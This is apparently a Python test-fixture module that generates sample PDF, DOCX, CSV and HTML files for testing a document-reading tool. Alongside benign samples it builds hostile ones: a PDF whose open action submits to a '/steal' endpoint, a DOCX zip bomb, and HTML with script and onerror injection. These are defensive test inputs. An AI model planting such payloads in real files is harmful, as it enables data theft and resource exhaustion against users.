"""Documents the tests and the bench build themselves: PDFs (fpdf2, pypdf), DOCX
(python-docx), CSV, HTML and the bad ones (image-only, locked, damaged, a zip bomb)."""

from __future__ import annotations

import io
import zipfile

FACT = "The launch code of the Zephyr project is 7429."
ZH_FACT = "淡水老街的阿給是用油豆腐包冬粉做成的小吃，最早出現在民國四十四年。"  # noqa: RUF001


def pdf(pages: list[str]) -> bytes:
    from fpdf import FPDF

    doc = FPDF()
    doc.set_font("helvetica", size=12)
    for text in pages:
        doc.add_page()
        doc.multi_cell(0, 8, text)
    return bytes(doc.output())


def filler(page: int) -> str:
    return (
        f"Page {page} of the quarterly report. The weather was mild and the cafeteria "
        "served soup on most days. Meetings were held on Mondays. "
    ) * 3


def pdf_with_fact(pages: int = 5, fact_page: int = 3) -> bytes:
    return pdf([FACT if n == fact_page else filler(n) for n in range(1, pages + 1)])


def image_only_pdf() -> bytes:
    from fpdf import FPDF
    from PIL import Image

    picture = io.BytesIO()
    Image.new("RGB", (200, 100), (200, 30, 30)).save(picture, "PNG")
    doc = FPDF()
    doc.add_page()
    doc.image(picture, x=10, y=10, w=100)
    return bytes(doc.output())


def locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_fact(3, 2))))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(["Quiet text about otters."]))))
    writer.add_open_action(
        JavaScript("app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');")
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def chinese_docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("台灣小吃筆記", level=1)
    document.add_paragraph("台南的牛肉湯要趁早去喝，湯頭清甜。")  # noqa: RUF001
    document.add_paragraph(ZH_FACT)
    document.add_paragraph("高雄的木瓜牛奶很有名，夏天特別受歡迎。")  # noqa: RUF001
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rows_csv() -> bytes:
    lines = ["city,population,mayor"]
    lines += [f"Town{i},{1000 + i},Mayor{i}" for i in range(1, 40)]
    lines.append("Quillbury,48213,Ada Greenleaf")
    return ("\n".join(lines) + "\n").encode()


def docx_bomb(unpacked: int = 300 * 1024 * 1024) -> bytes:
    """A DOCX whose document.xml unpacks to ``unpacked`` bytes of blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            block = b" " * (1024 * 1024)
            for _ in range(unpacked // len(block)):
                fh.write(block)
    return out.getvalue()


HTML_WITH_SCRIPT = b"""<!doctype html><html><head><title>Otter facts</title>
<script>fetch('/app/rooms').then(r => r.text()).then(t => alert(t));</script>
<style>body { display: none }</style></head>
<body><p>Sea otters hold hands while they sleep.</p>
<img src=x onerror="alert('img')"><noscript>enable scripts</noscript></body></html>"""
